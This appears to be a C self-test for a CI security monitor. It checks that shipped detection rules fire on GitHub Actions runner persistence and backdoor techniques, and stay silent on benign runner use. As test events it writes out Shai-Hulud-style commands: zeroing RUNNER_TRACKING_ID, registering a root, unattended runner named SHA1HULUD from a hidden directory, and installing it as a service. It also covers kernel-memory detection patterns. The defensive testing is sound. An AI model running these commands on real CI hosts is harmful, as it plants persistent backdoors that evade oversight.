// SPDX-License-Identifier: GPL-2.0
/*
 * The shipped runner rules (rules/runner_persistence.yaml,
 * rules/runner_backdoor.yaml), compiled with the other shipped files and
 * run by the reference interpreter over exec events as the kernel would
 * see them: every variant of the attacks fires the rules meant for it,
 * and the benign cases fire none.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "kselftest_harness.h"

#include "rules/rules.h"
#include "test_events.h"

#ifndef CIMON_RULES_DIR
#define CIMON_RULES_DIR "../../rules"
#endif

static const char *const shipped[] = {
	"falco_seed.yaml", "memory_access.yaml", "runner_persistence.yaml",
	"runner_backdoor.yaml",
};

#define SEED	"Persistence Across Github Runner Executions Detected"
#define ZEROED	"GitHub Runner Tracking ID Zeroed in a Job"
#define BLANK	"GitHub Runner Tracking ID Set to Zero or Blank"
#define DROPPED	"GitHub Runner Tracking ID Dropped in a Job"
#define REPLACED "GitHub Runner Tracking ID Replaced in a Job"
#define FOREIGN	"GitHub Runner Started a Step with a Foreign Tracking ID"
#define HIDDEN	"GitHub Runner Started from a Hidden Directory"
#define UNATTENDED "GitHub Runner Registered Unattended"
#define BADNAME	"GitHub Runner Registered with a Known-Bad Name"
#define ROOT	"GitHub Runner Allowed to Run as Root"
#define SERVICE	"GitHub Runner Installed as a Service"
#define FROMJOB	"GitHub Runner Configured from a Job"

#define JOB_ID	"RUNNER_TRACKING_ID=" TEST_TRACKING_ID

static struct cimon_ruleset *load_shipped(struct __test_metadata *_metadata,
					  struct cimon_rules **rp)
{
	struct cimon_rules *r = cimon_rules_new(true);
	struct cimon_ruleset *set;
	char path[512], line[512];
	const struct cimon_diag *d;
	size_t i, n;

	for (i = 0; i < sizeof(shipped) / sizeof(shipped[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", CIMON_RULES_DIR,
			 shipped[i]);
		cimon_rules_add_file(r, path);
	}
	set = cimon_rules_compile(r);
	if (!set) {
		d = cimon_rules_diags(r, &n);
		for (i = 0; i < n; i++)
			TH_LOG("%s", cimon_diag_format(&d[i], line, sizeof(line)));
	}
	*rp = r;
	return set;
}

/*
 * An exec of @comm (@exe) with argv @args (NUL-separated, @len bytes)
 * whose parent is @pname; in a job when @in_job.
 */
static void exec_event(struct cimon_event *ev, const char *comm,
		       const char *exe, const char *args, size_t len,
		       const char *pname, bool in_job)
{
	test_event(ev, CIMON_EVENT_EXEC);
	test_set(ev->proc.comm, comm);
	test_set(ev->proc.exe, exe);
	test_set(ev->proc.ancestors[0], pname);
	test_set_cmdline(&ev->proc, args, len);
	memset(&ev->github, 0, sizeof(ev->github));
	if (in_job)
		test_set_github(ev, "__run_2", NULL, NULL);
}

#define EXEC(ev, comm, exe, args, pname, in_job) \
	exec_event(ev, comm, exe, args, sizeof(args), pname, in_job)

/*
 * The names of the rules that match, in file order, joined by '|';
 * "" when none.  Exec rules only see execs: the kernel runs a rule only
 * for the types in its mask, so that is checked too.
 */
static void fired(const struct cimon_ruleset *set,
		  const struct cimon_event *ev, const char *const *env,
		  const char *const *aenv, char *out, size_t len)
{
	struct cimon_match *m = calloc(1, sizeof(*m));
	size_t i, n = 0;

	out[0] = '\0';
	if (!m)
		return;
	m->ev = ev;
	m->env = env;
	m->aenv = aenv;
	for (i = 0; i < set->nrules; i++) {
		const struct cimon_rule *ru = &set->rules[i];

		if (!(ru->events & (1U << ev->type)))
			continue;
		if (cimon_match_rule(ru, m) != 1)
			continue;
		n += (size_t)snprintf(out + n, len - n, "%s%s", n ? "|" : "",
				      ru->name);
		if (n >= len)
			break;
	}
	free(m);
}

#define EXPECT_FIRES(set, ev, env, aenv, want) \
	do { \
		char got_[1024]; \
		fired(set, ev, env, aenv, got_, sizeof(got_)); \
		EXPECT_STREQ(want, got_); \
	} while (0)

static const struct cimon_rule *find(const struct cimon_ruleset *set,
				     const char *name)
{
	size_t i;

	for (i = 0; i < set->nrules; i++)
		if (!strcmp(set->rules[i].name, name))
			return &set->rules[i];
	return NULL;
}

TEST(runner_rules_load)
{
	static const struct { const char *name; int action; } rules[] = {
		{ ZEROED, CIMON_ACTION_BLOCK }, { BLANK, CIMON_ACTION_ALERT },
		{ DROPPED, CIMON_ACTION_BLOCK },
		{ REPLACED, CIMON_ACTION_ALERT },
		{ FOREIGN, CIMON_ACTION_ALERT }, { HIDDEN, CIMON_ACTION_ALERT },
		{ UNATTENDED, CIMON_ACTION_ALERT },
		{ BADNAME, CIMON_ACTION_BLOCK }, { ROOT, CIMON_ACTION_ALERT },
		{ SERVICE, CIMON_ACTION_ALERT },
		{ FROMJOB, CIMON_ACTION_ALERT },
	};
	struct cimon_rules *r;
	struct cimon_ruleset *set = load_shipped(_metadata, &r);
	const struct cimon_rule *ru;
	size_t i;

	ASSERT_NE(NULL, set);
	for (i = 0; i < sizeof(rules) / sizeof(rules[0]); i++) {
		char err[128];

		ru = find(set, rules[i].name);
		ASSERT_NE(NULL, ru) TH_LOG("%s", rules[i].name);
		EXPECT_EQ(rules[i].action, ru->action) TH_LOG("%s", ru->name);
		/* exec events only: no cost on the memory-access hooks */
		EXPECT_EQ(1U << CIMON_EVENT_EXEC, ru->events) TH_LOG("%s", ru->name);
		EXPECT_EQ(0, cimon_prog_verify(ru->insns, ru->ninsns, ru->strtab,
					       ru->strtab_len, err, sizeof(err)))
			TH_LOG("%s: %s", ru->name, err);
		EXPECT_NE(0, ru->desc[0]);
		EXPECT_NE(NULL, strstr(ru->output, "%github.action"));
		EXPECT_EQ(0, strncmp(ru->tags, "CI/CD,github_actions", 20))
			TH_LOG("%s: %s", ru->name, ru->tags);
	}
	cimon_ruleset_free(set);
	cimon_rules_free(r);
}

TEST(tracking_id_variants)
{
	static const char *const job[] = { JOB_ID, "HOME=/home/runner", NULL };
	static const char *const zero[] = { "RUNNER_TRACKING_ID=0", NULL };
	static const char *const empty[] = { "RUNNER_TRACKING_ID=", NULL };
	static const char *const blank[] = { "RUNNER_TRACKING_ID= \t ", NULL };
	static const char *const other[] = { "RUNNER_TRACKING_ID=x", NULL };
	static const char *const upper[] = {
		"RUNNER_TRACKING_ID=GITHUB_5F1C2C8E-3B1D-4C39-9A57-0C9E0D7F6A21",
		NULL
	};
	static const char *const zero_x[] = { "RUNNER_TRACKING_ID=0 x", NULL };
	static const char *const none[] = { "HOME=/home/runner", NULL };
	static const char *const noenv[] = { NULL };
	struct cimon_rules *r;
	struct cimon_ruleset *set = load_shipped(_metadata, &r);
	struct cimon_event ev;

	ASSERT_NE(NULL, set);
	/* A step: RUNNER_TRACKING_ID=0 nohup ./x &, the seed rule misses it. */
	EXEC(&ev, "nohup", "/usr/bin/nohup", "nohup\0./x", "bash", true);
	EXPECT_FIRES(set, &ev, zero, job, ZEROED);
	/* Empty and blank (tabs too), in a step. */
	EXPECT_FIRES(set, &ev, empty, job, ZEROED);
	EXPECT_FIRES(set, &ev, blank, job, ZEROED);
	/* Dropped: env -u RUNNER_TRACKING_ID ./x. */
	EXPECT_FIRES(set, &ev, none, job, DROPPED);
	EXPECT_FIRES(set, &ev, noenv, job, DROPPED);
	/* Replaced by another value, in another case, or a "0..." one. */
	EXPECT_FIRES(set, &ev, other, job, REPLACED);
	EXPECT_FIRES(set, &ev, upper, job, REPLACED);
	EXPECT_FIRES(set, &ev, zero_x, job, REPLACED);

	/* A step that keeps the job's id: nothing. */
	EXPECT_FIRES(set, &ev, job, job, "");
	/* Below a process already zeroed: its start fired, this does not. */
	EXPECT_FIRES(set, &ev, zero, zero, "");
	/* sudo's env_reset drops it for every sudo cmd: not alone an alert. */
	EXEC(&ev, "make", "/usr/bin/make", "make\0install", "sudo", true);
	EXPECT_FIRES(set, &ev, none, job, "");

	/* The parent carries none: the seed rule's case, and blanks too. */
	EXEC(&ev, "nohup", "/usr/bin/nohup", "nohup\0./x", "bash", false);
	EXPECT_FIRES(set, &ev, zero, none, SEED "|" BLANK);
	EXPECT_FIRES(set, &ev, empty, none, BLANK);
	/* (The seed rule sees "RUNNER_TRACKING_ID= " in this one.) */
	EXPECT_FIRES(set, &ev, blank, noenv, SEED "|" BLANK);
	EXPECT_FIRES(set, &ev, zero, zero, "");
	/* "0" after a blank parent: another value again. */
	EXPECT_FIRES(set, &ev, zero, empty, BLANK);
	/* A host without a runner: nothing carries it. */
	EXPECT_FIRES(set, &ev, none, none, "");
	EXPECT_FIRES(set, &ev, noenv, noenv, "");
	EXPECT_FIRES(set, &ev, other, none, "");
	cimon_ruleset_free(set);
	cimon_rules_free(r);
}

TEST(tracking_id_from_the_runner)
{
	static const char *const job[] = { JOB_ID, NULL };
	static const char *const zero[] = { "RUNNER_TRACKING_ID=0", NULL };
	static const char *const other[] = { "RUNNER_TRACKING_ID=keep", NULL };
	static const char *const none[] = { "HOME=/home/runner", NULL };
	static const char *const outer[] = {
		"RUNNER_TRACKING_ID=github_00000000-0000-0000-0000-000000000000",
		NULL
	};
	struct cimon_rules *r;
	struct cimon_ruleset *set = load_shipped(_metadata, &r);
	struct cimon_event ev;

	ASSERT_NE(NULL, set);
	/* Runner.Worker starts a step: its own environment has no id. */
	EXEC(&ev, "bash", "/usr/bin/bash",
	     "bash\0--noprofile\0--norc\0-e\0-o\0pipefail\0/tmp/x.sh",
	     "Runner.Worker", true);
	EXPECT_FIRES(set, &ev, job, none, "");
	/* The workflow's env: RUNNER_TRACKING_ID: 0 (Shai-Hulud). */
	EXPECT_FIRES(set, &ev, zero, none, SEED "|" BLANK);
	/* The workflow's env: with another value. */
	EXPECT_FIRES(set, &ev, other, none, FOREIGN);
	/* A runner started inside a job gives its jobs new ids: fine. */
	EXPECT_FIRES(set, &ev, job, outer, "");
	/* A runner with process cleanup off gives none. */
	EXPECT_FIRES(set, &ev, none, none, "");
	/* The zeroing rule trusts no parent, the runner (or a process that
	 * calls itself so) included. */
	EXPECT_FIRES(set, &ev, zero, outer, ZEROED);
	cimon_ruleset_free(set);
	cimon_rules_free(r);
}

TEST(runner_backdoor_shai_hulud)
{
	static const char *const root[] = { "RUNNER_ALLOW_RUNASROOT=1", NULL };
	static const char *const none[] = { "HOME=/root", NULL };
	struct cimon_rules *r;
	struct cimon_ruleset *set = load_shipped(_metadata, &r);
	struct cimon_event ev;

	ASSERT_NE(NULL, set);
	/* RUNNER_ALLOW_RUNASROOT=1 ./config.sh ... --name "SHA1HULUD" */
	EXEC(&ev, "config.sh", "/root/.dev-env/config.sh",
	     "./config.sh\0--url\0https://github.com/evil/repo\0--unattended\0"
	     "--token\0AAAA\0--name\0SHA1HULUD", "bun", false);
	EXPECT_FIRES(set, &ev, root, none,
		     HIDDEN "|" UNATTENDED "|" BADNAME "|" ROOT);
	/* ... and the Runner.Listener configure that config.sh runs. */
	EXEC(&ev, "Runner.Listener", "/root/.dev-env/bin/Runner.Listener",
	     "./bin/Runner.Listener\0configure\0--url\0https://github.com/evil/repo\0"
	     "--unattended\0--token\0AAAA\0--name\0SHA1HULUD", "config.sh", false);
	EXPECT_FIRES(set, &ev, root, root,
		     HIDDEN "|" UNATTENDED "|" BADNAME "|" ROOT);
	/* bash -c "cd $HOME/.dev-env && nohup ./run.sh &" */
	EXEC(&ev, "bash", "/usr/bin/bash",
	     "bash\0-c\0cd $HOME/.dev-env && nohup ./run.sh &", "bun", false);
	EXPECT_FIRES(set, &ev, none, none, HIDDEN);
	/* ... the run.sh it starts, by its resolved path. */
	EXEC(&ev, "run.sh", "/root/.dev-env/run.sh", "./run.sh", "nohup", false);
	EXPECT_FIRES(set, &ev, none, none, HIDDEN);
	/* Runner.Worker of that runner, for each job it takes. */
	EXEC(&ev, "Runner.Worker", "/root/.dev-env/bin/Runner.Worker",
	     "/root/.dev-env/bin/Runner.Worker\0spawnclient\0107\0110",
	     "Runner.Listener", false);
	EXPECT_FIRES(set, &ev, none, none, HIDDEN);
	/* sudo ./svc.sh install, from a step. */
	EXEC(&ev, "svc.sh", "/root/.dev-env/svc.sh", "./svc.sh\0install",
	     "sudo", true);
	EXPECT_FIRES(set, &ev, none, none, HIDDEN "|" SERVICE "|" FROMJOB);
	cimon_ruleset_free(set);
	cimon_rules_free(r);
}

TEST(runner_backdoor_argument_forms)
{
	static const char *const none[] = { "HOME=/home/ci", NULL };
	static const char *const empty[] = { "RUNNER_ALLOW_RUNASROOT=", NULL };
	struct cimon_rules *r;
	struct cimon_ruleset *set = load_shipped(_metadata, &r);
	struct cimon_event ev;

	ASSERT_NE(NULL, set);
	/* --token=X, --name=X, in a normal directory. */
	EXEC(&ev, "config.sh", "/home/ci/actions-runner/config.sh",
	     "./config.sh\0--unattended\0--url=https://github.com/o/r\0"
	     "--token=AAAA\0--name=SHA1HULUD", "bash", false);
	EXPECT_FIRES(set, &ev, none, none, UNATTENDED "|" BADNAME);
	/* bash config.sh, sh ./config.sh: the shell's exec. */
	EXEC(&ev, "bash", "/usr/bin/bash",
	     "bash\0config.sh\0--unattended\0--token\0AAAA", "bash", false);
	EXPECT_FIRES(set, &ev, none, none, UNATTENDED);
	EXEC(&ev, "sh", "/usr/bin/dash",
	     "sh\0./config.sh\0--pat\0ghp_x\0--unattended", "bash", false);
	EXPECT_FIRES(set, &ev, none, none, UNATTENDED);
	/* sh /home/ci/.x/config.sh: hidden, by the path given. */
	EXEC(&ev, "sh", "/usr/bin/dash",
	     "sh\0/home/ci/.x/config.sh\0--url\0u", "bash", false);
	EXPECT_FIRES(set, &ev, none, none, HIDDEN);
	/* bash ../runner/config.sh: ".." is no hidden directory. */
	EXEC(&ev, "bash", "/usr/bin/bash",
	     "bash\0../runner/config.sh\0--url\0u", "bash", false);
	EXPECT_FIRES(set, &ev, none, none, "");

	/* Benign: an interactive registration, a removal, a normal start. */
	EXEC(&ev, "config.sh", "/home/ci/actions-runner/config.sh",
	     "./config.sh\0--url\0https://github.com/o/r", "bash", false);
	EXPECT_FIRES(set, &ev, none, none, "");
	EXEC(&ev, "config.sh", "/home/ci/actions-runner/config.sh",
	     "./config.sh\0remove\0--unattended\0--token\0AAAA", "bash", false);
	EXPECT_FIRES(set, &ev, none, none, "");
	EXEC(&ev, "run.sh", "/home/ci/actions-runner/run.sh", "./run.sh",
	     "systemd", false);
	EXPECT_FIRES(set, &ev, none, none, "");
	EXPECT_FIRES(set, &ev, empty, none, "");
	EXEC(&ev, "Runner.Listener", "/home/ci/actions-runner/bin/Runner.Listener",
	     "bin/Runner.Listener\0run", "run-helper.sh", false);
	EXPECT_FIRES(set, &ev, none, none, "");
	/* A script of another name in a hidden directory: not the runner. */
	EXEC(&ev, "myrun.sh", "/home/ci/.cache/myrun.sh", "./myrun.sh", "bash",
	     false);
	EXPECT_FIRES(set, &ev, none, none, "");
	/* The runner's svc.sh status: no install. */
	EXEC(&ev, "svc.sh", "/home/ci/actions-runner/svc.sh", "./svc.sh\0status",
	     "sudo", false);
	EXPECT_FIRES(set, &ev, none, none, "");
	cimon_ruleset_free(set);
	cimon_rules_free(r);
}

#define KMEM	"Kernel or Physical Memory Opened"
#define RUNNER_MEM "Memory of GitHub Runner Read or Written"

/*
 * /dev/mem, /dev/port, /proc/kcore, as the kernel reports them: the
 * shipped rule fires for each, and no rule about another process does;
 * fd.name, evt.type and evt.is_open_* have their open's values.
 */
TEST(kernel_memory_opens)
{
	static const char *const paths[] = {
		"/dev/mem", "/dev/port", "/proc/kcore"
	};
	static const char text[] =
		"- rule: read\n  condition: >\n"
		"    evt.type = open and evt.is_open_read = 1\n"
		"    and evt.is_open_write = 0 and fd.name = /proc/kcore\n"
		"- rule: write\n  condition: open_write and fd.name exists\n"
		"- rule: target\n  condition: kernel_memory_open and target.pid exists\n"
		"- rule: event\n  condition: cimon.event = kmem_open\n";
	struct cimon_rules *r, *r2;
	struct cimon_ruleset *set = load_shipped(_metadata, &r), *set2;
	struct cimon_event ev;
	size_t i;

	ASSERT_NE(NULL, set);
	for (i = 0; i < 3; i++) {
		test_event(&ev, CIMON_EVENT_KMEM_OPEN);
		test_set(ev.file, paths[i]);
		EXPECT_FIRES(set, &ev, NULL, NULL, KMEM);
		ev.arg = 01;			/* O_WRONLY */
		ev.syscall_nr = -1;		/* an io_uring worker: "open" */
		test_set_github(&ev, "__run_2", NULL, NULL);
		EXPECT_FIRES(set, &ev, NULL, NULL, KMEM);
	}
	/* The runner's memory by /proc: its own rule, not this one. */
	test_event(&ev, CIMON_EVENT_MEM_OPEN);
	EXPECT_FIRES(set, &ev, NULL, NULL,
		     "Process Dumping Memory of Others|" RUNNER_MEM);
	cimon_ruleset_free(set);
	cimon_rules_free(r);

	r2 = cimon_rules_new(true);
	ASSERT_NE(NULL, r2);
	cimon_rules_add_buffer(r2, "k.yaml", text, sizeof(text) - 1);
	set2 = cimon_rules_compile(r2);
	ASSERT_NE(NULL, set2);
	test_event(&ev, CIMON_EVENT_KMEM_OPEN);
	test_set(ev.file, "/proc/kcore");
	ev.syscall_nr = -1;
	EXPECT_FIRES(set2, &ev, NULL, NULL, "read|event");
	ev.syscall_nr = 2;
	ev.arg = 02;			/* O_RDWR */
	EXPECT_FIRES(set2, &ev, NULL, NULL, "write|event");
	cimon_ruleset_free(set2);
	cimon_rules_free(r2);
}

TEST_HARNESS_MAIN
